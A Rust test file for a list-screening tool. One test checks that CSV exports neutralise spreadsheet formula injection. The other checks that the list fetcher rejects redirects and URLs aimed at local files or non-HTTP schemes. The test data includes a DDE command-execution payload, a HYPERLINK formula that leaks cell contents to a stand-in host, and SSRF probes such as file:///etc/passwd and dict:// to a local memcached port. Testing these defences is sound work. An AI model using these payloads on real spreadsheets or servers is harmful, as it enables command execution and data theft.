//! Tables for spreadsheets, and servers of lists that send us elsewhere.

use super::super::bench::Bench;
use super::super::fixtures::{file, person, ten_people};
use super::super::server::{Behaviour, Server};

/// What spreadsheets run, or hide a formula behind.
const FORMULAS: [&str; 10] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
];

/// The cells of a table, as a spreadsheet reads them.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// Whether a spreadsheet would compute the cell: numbers are only numbers.
fn runs(cell: &str) -> bool {
    let begin = cell.trim_start_matches(['\u{2068}', ' ', '\t', '\r', '\n']);
    cell.parse::<f64>().is_err()
        && begin.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    let bench = Bench::new();
    let mut people: Vec<String> = ten_people();
    let mut rows = String::from("id,name\n");
    for (at, formula) in FORMULAS.iter().enumerate() {
        let name = format!("{formula} Zlatan Nepostojan");
        people.push(person(&format!("{formula}-{at}"), &[&name], None));
        let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
        rows += &format!("{},{}\n", quoted(&format!("{formula}{at}")), quoted(&name));
    }
    bench.import("national", &file(&people), &[]).ok();
    let customers = bench.write("customers.csv", rows);
    let table =
        bench.run(&["screen", &customers, "--format", "csv", "--operating-point", "wide"]).ok().stdout;
    let cells = cells(&table);
    assert!(cells.iter().filter(|cell| cell.contains("Nepostojan")).count() >= FORMULAS.len(), "{table}");
    let formulas: Vec<&String> = cells.iter().filter(|cell| runs(cell)).collect();
    assert!(formulas.is_empty(), "{formulas:?}");
}

#[test]
fn a_server_of_lists_cannot_send_us_just_anywhere() {
    let bench = Bench::new();
    let server = Server::start(Behaviour::Serve(file(&ten_people())));
    let sources = format!(
        "[[list]]\nid = \"national\"\ntitle = \"Register\"\nauthority = \"Ministry of Examples\"\n\
         legal_basis = \"Act 12\"\nformat = \"ftm\"\nurls = [\"{}\"]\n",
        server.url("national.json")
    );
    bench.write("data/sources.toml", sources);
    bench.run(&["lists", "fetch", "national"]).ok();
    for (to, complaint) in [
        ("file:///etc/passwd", "no http or https"),
        ("ftp://127.0.0.1/list", "no http or https"),
        ("gopher://127.0.0.1:70/1", "no http or https"),
        ("data:application/json,{}", "no http or https"),
        ("http://[", "redirects to"),
        ("", "redirects"),
        ("national.json", "more than 5 redirects"),
    ] {
        server.behave(Behaviour::Redirect(to.to_owned()));
        bench.run(&["lists", "fetch", "national"]).ends_with(1).complains(complaint);
        assert_eq!(bench.entries("national"), 10, "after a redirect to {to:?}");
    }
    for address in [
        "gopher://127.0.0.1/x",
        "ftp://127.0.0.1/x",
        "dict://127.0.0.1:11211/stats",
        "/etc/passwd",
        "//host/x",
    ] {
        let text = bench.read("data/sources.toml");
        let begin = text.find("urls").unwrap();
        bench.write("data/sources.toml", format!("{}urls = [\"{address}\"]\n", &text[..begin]));
        let run = bench.run(&["lists", "fetch", "national"]);
        assert!(run.code == 1 || run.code == 2, "{address}: {}", run.stderr);
    }
}
